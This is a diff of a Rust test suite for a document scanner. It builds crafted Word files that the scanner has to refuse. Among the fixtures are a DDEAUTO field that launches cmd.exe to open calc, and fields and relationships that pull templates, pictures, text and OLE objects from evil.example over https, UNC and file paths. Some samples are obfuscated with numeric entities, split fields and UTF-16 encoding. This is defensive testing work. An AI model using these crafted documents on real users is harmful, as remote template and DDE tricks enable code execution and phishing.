@@ -5,14 +5,19 @@ use files::MediaType;
 use crate::{
     Case, Verdict,
     contents::eicar,
-    samples::{Part, docx_with, part, word, zip},
+    noise,
+    samples::{Part, docx_with, ole, part, word, zip},
 };
 
 const MACRO: &str = "file_macro";
 const ACTIVE: &str = "file_active_content";
+const EXTERNAL: &str = "file_external";
+const EMBEDDED: &str = "file_embedded";
 const UNSAFE: &str = "file_unsafe_archive";
 const BOMB: &str = "file_unpacks_too_large";
 
+/// How a relationship says that it leads out of the document.
+const EXTERNALLY: &str = "TargetMode=\"External\"";
 /// What the types of relationships begin with.
 const KINDS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
 
@@ -24,7 +29,6 @@ pub fn cases() -> Vec<Case> {
         "word/vbaData.xml",
         "word/activeX/activeX1.bin",
         "word/activeX/activeX1.xml",
-        "word/embeddings/oleObject1.bin",
         "word/embeddings/a.exe",
         "word/media/image1.EXE",
         "word/a.dll",
@@ -63,13 +67,14 @@ pub fn cases() -> Vec<Case> {
     ] {
         cases.push(refused(format!("macros {what}"), declared(types.as_bytes()), MACRO));
     }
+    let numbered = declared(b"wordprocessingml.document.main+xml macro&#69;nabled");
+    cases.push(refused("macros declared by numbered letters", numbered, MACRO));
     let wide: Vec<u8> = "wordprocessingml.document.main+xml macroEnabled"
         .encode_utf16()
         .flat_map(u16::to_le_bytes)
         .collect();
     for (what, types) in [
         ("in two bytes a letter", wide.as_slice()),
-        ("by numbered letters", b"wordprocessingml.document.main+xml macro&#69;nabled"),
         (
             "by an entity",
             b"<!DOCTYPE a [<!ENTITY e 'macroEnabled'>]>wordprocessingml.document.main+xml &e;",
@@ -79,29 +84,48 @@ pub fn cases() -> Vec<Case> {
     ] {
         cases.push(refused(format!("types {what}"), declared(types), UNSAFE));
     }
-    for (what, kind) in [
-        ("a template", "attachedTemplate"),
-        ("an object", "oleObject"),
-        ("a picture", "image"),
-        ("a page in a frame", "frame"),
-        ("another document", "subDocument"),
-        ("another format", "aFChunk"),
+    for (what, kind, code) in [
+        ("a template", "attachedTemplate", EXTERNAL),
+        ("an object", "oleObject", EMBEDDED),
+        ("a picture", "image", EXTERNAL),
+        ("a page in a frame", "frame", EXTERNAL),
+        ("another document", "subDocument", EXTERNAL),
+        ("another format", "aFChunk", EMBEDDED),
     ] {
-        for target in ["https://evil.example/a", "\\\\evil.example\\a", "file:///c:/a", "mhtml:x!y"]
+        for target in
+            ["https://evil.example/a", "\\\\evil.example\\a", "file:////evil/a", "mhtml:x!y"]
         {
             let bytes = related(kind, target, "TargetMode=\"External\"");
-            cases.push(refused(format!("{what} from {target}"), bytes, ACTIVE));
+            cases.push(refused(format!("{what} from {target}"), bytes, code));
         }
     }
     let spelt = related("attachedTemplate", "https://evil.example/a", "TargetMode = 'External'");
-    cases.push(refused("a template from elsewhere, spelt otherwise", spelt, ACTIVE));
+    cases.push(refused("a template from elsewhere, spelt otherwise", spelt, EXTERNAL));
     let hidden =
         related("attachedTemplate", "https://evil.example/a", "TargetMode=\"Ext&#101;rnal\"");
-    cases.push(refused("a template from elsewhere, by numbered letters", hidden, UNSAFE));
+    cases.push(refused("a template from elsewhere, by numbered letters", hidden, EXTERNAL));
+    cases.extend(objects());
+    cases.extend(worked_out());
     for (what, bytes) in [
+        (
+            "a template of one's own",
+            related(
+                "attachedTemplate",
+                "file:///C:\\Users\\An\\Mẫu.dotx",
+                "TargetMode=\"External\"",
+            ),
+        ),
+        (
+            "a link over lines",
+            related("hyperlink", "mailto:a@b.vn?body=a&#xA;b&#10;c", "TargetMode=\"External\""),
+        ),
         ("a link", related("hyperlink", "https://dichvucong.gov.vn", "TargetMode=\"External\"")),
         ("a picture inside", related("image", "media/image1.png", "")),
-        ("a chart's workbook", docx_with(part("word/embeddings/Workbook.xlsx", b"PK"))),
+        ("a chart's workbook", docx_with(part("word/embeddings/Workbook.xlsx", &zip(&workbook())))),
+        ("a font's letters", docx_with(part("word/fonts/font1.odttf", b"MZ\x01\x02 letters"))),
+        ("words of another program", worked("<w:p><w:t>DDEAUTO INCLUDETEXT</w:t></w:p>")),
+        ("a page's number", worked(&field(" PAGE \\* MERGEFORMAT "))),
+        ("a link as a field", worked(&field(" HYPERLINK \"https://a.vn/include\" "))),
         (
             "a comment",
             docx_with(part("word/comments.xml", b"<w:comments><!-- vbaProject --></w:comments>")),
@@ -113,6 +137,113 @@ pub fn cases() -> Vec<Case> {
     }
     cases.extend(archives());
     cases
+}
+
+/// What other programs open, by what it is, by what it is said to be, and by how it is referred to;
+/// each alone is enough.
+fn objects() -> Vec<Case> {
+    let typed = |extension: &str, kind: &str, data: &[u8]| {
+        let mut parts = word();
+        let types = format!("<Types><Default Extension=\"{extension}\" ContentType=\"{kind}\"/>");
+        let types = String::from_utf8_lossy(&parts[0].data).replacen("<Types>", &types, 1);
+        parts[0].data = types.into_bytes();
+        parts.push(part(&format!("word/a.{extension}"), data));
+        zip(&parts)
+    };
+    let ole_type = "application/vnd.openxmlformats-officedocument.oleObject";
+    let mut with_macros = workbook();
+    with_macros.push(part("xl/vbaProject.bin", b"x"));
+    let mut fetching = workbook();
+    let outside = relation("externalLinkPath", "https://evil.example/a.xlsx", EXTERNALLY);
+    fetching.push(part("xl/externalLinks/_rels/externalLink1.xml.rels", outside.as_bytes()));
+    let mut nested = workbook();
+    nested.push(part("xl/embeddings/a.xlsx", &zip(&workbook())));
+    let in_chart = |parts: &[Part]| docx_with(part("word/embeddings/a.xlsx", &zip(parts)));
+    let many: Vec<Part> =
+        (0..20).map(|n| part(&format!("word/embeddings/{n}.xlsx"), &zip(&workbook()))).collect();
+    let many = zip(&word().into_iter().chain(many).collect::<Vec<_>>());
+    let mut cases = Vec::new();
+    for (what, bytes, code) in [
+        ("an object", docx_with(part("word/embeddings/oleObject1.bin", b"x")), EMBEDDED),
+        (
+            "an object called otherwise",
+            docx_with(part("word/a.dat", &ole("Ole10Native"))),
+            EMBEDDED,
+        ),
+        ("an object by its type", typed("dat", ole_type, b"x"), EMBEDDED),
+        ("an object by its reference", related("oleObject", "embeddings/a.dat", ""), EMBEDDED),
+        ("a page by its type", typed("dat", "text/html", b"x"), EMBEDDED),
+        (
+            "rich text",
+            docx_with(part("word/chunk.rtf", b"{\\rtf1{\\object\\objdata 01}}")),
+            EMBEDDED,
+        ),
+        ("rich text by its type", typed("dat", "application/rtf", b"x"), EMBEDDED),
+        ("rich text by its reference", related("aFChunk", "chunk.dat", ""), EMBEDDED),
+        (
+            "an old document",
+            docx_with(part("word/embeddings/a.doc", &ole("WordDocument"))),
+            EMBEDDED,
+        ),
+        ("an old workbook", docx_with(part("word/embeddings/a.xls", &ole("Workbook"))), EMBEDDED),
+        ("an archive called otherwise", docx_with(part("word/a.dat", &zip(&word()))), EMBEDDED),
+        ("a workbook that is none", in_chart(&word()), EMBEDDED),
+        ("a workbook with macros", in_chart(&with_macros), MACRO),
+        ("a workbook that fetches", in_chart(&fetching), EXTERNAL),
+        ("a workbook in a workbook", in_chart(&nested), EMBEDDED),
+        ("more workbooks than charts", many, EMBEDDED),
+        ("macros by their reference", related("vbaProject", "a.xml", ""), MACRO),
+        ("keys by their reference", related("keyMapCustomizations", "a.xml", ""), MACRO),
+        ("a control by its reference", related("control", "a.xml", ""), MACRO),
+    ] {
+        cases.push(refused(format!("{what} in a document"), bytes, code));
+    }
+    cases
+}
+
+/// Fields that ask programs or fetch files.
+fn worked_out() -> Vec<Case> {
+    let mut cases = Vec::new();
+    for (what, body, code) in [
+        ("DDE", field(" DDEAUTO c:\\\\cmd.exe \"/k calc\" "), ACTIVE),
+        ("DDE in pieces", field("D</w:instrText></w:r><w:r><w:instrText>DE a"), ACTIVE),
+        ("DDE by numbered letters", field("&#68;DE a"), ACTIVE),
+        ("DDE in one element", "<w:fldSimple w:instr=\"DDE a\"/>".to_owned(), ACTIVE),
+        ("a picture", field("INCLUDEPICTURE \"http://evil.example/a.png\" \\d"), EXTERNAL),
+        ("a text", field("INCLUDETEXT \"\\\\evil.example\\a.docx\""), EXTERNAL),
+        ("a link", field("LINK Excel.Sheet.12 \"http://evil.example/a.xlsx\""), EXTERNAL),
+    ] {
+        cases.push(refused(format!("a document that works out {what}"), worked(&body), code));
+    }
+    let mut wide = word();
+    wide[2].data = "<w:document/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    cases.push(refused("a document in two bytes a letter", zip(&wide), UNSAFE));
+    cases
+}
+
+/// The parts of a small workbook.
+fn workbook() -> Vec<Part> {
+    let types = "<Types><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/\
+        vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></Types>";
+    vec![
+        part("[Content_Types].xml", types.as_bytes()),
+        part("_rels/.rels", b"<Relationships/>"),
+        part("xl/workbook.xml", b"<workbook/>"),
+    ]
+}
+
+/// A document with this body.
+fn worked(body: &str) -> Vec<u8> {
+    let mut parts = word();
+    parts[2].data = format!("<?xml version=\"1.0\"?><w:document>{body}</w:document>").into_bytes();
+    zip(&parts)
+}
+
+/// A field of several elements, as Word writes it.
+fn field(code: &str) -> String {
+    let mark = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
+    let code = format!("<w:r><w:instrText xml:space=\"preserve\">{code}</w:instrText></w:r>");
+    format!("{}{code}{}<w:r><w:t>1</w:t></w:r>{}", mark("begin"), mark("separate"), mark("end"))
 }
 
 /// Archives that lie, or lead out of themselves.
@@ -206,11 +337,15 @@ fn declared(types: &[u8]) -> Vec<u8> {
 
 /// A document with one relationship.
 fn related(kind: &str, target: &str, mode: &str) -> Vec<u8> {
-    let relations = format!(
+    let relations = relation(kind, target, mode);
+    docx_with(part("word/_rels/document.xml.rels", relations.as_bytes()))
+}
+
+fn relation(kind: &str, target: &str, mode: &str) -> String {
+    format!(
         "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships>\
          <Relationship Id=\"rId1\" Type=\"{KINDS}/{kind}\" Target=\"{target}\" {mode}/></Relationships>"
-    );
-    docx_with(part("word/_rels/document.xml.rels", relations.as_bytes()))
+    )
 }
 
 /// A document whose last part begins in the middle of the one before, under a right name of its own.
@@ -223,16 +358,6 @@ fn overlapping() -> Vec<u8> {
     let at = zip(&parts).windows(head.len()).position(|window| window == head).unwrap_or_default();
     parts.push(Part { at: Some(at as u32), ..part("word/b.xml", b"b") });
     zip(&parts)
-}
-
-/// Bytes that cannot be packed.
-fn noise(count: usize) -> Vec<u8> {
-    let mut state = 1_u32;
-    let next = || {
-        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
-        (state >> 24) as u8
-    };
-    std::iter::repeat_with(next).take(count).collect()
 }
 
 /// A document with a part whose packed data are noise.
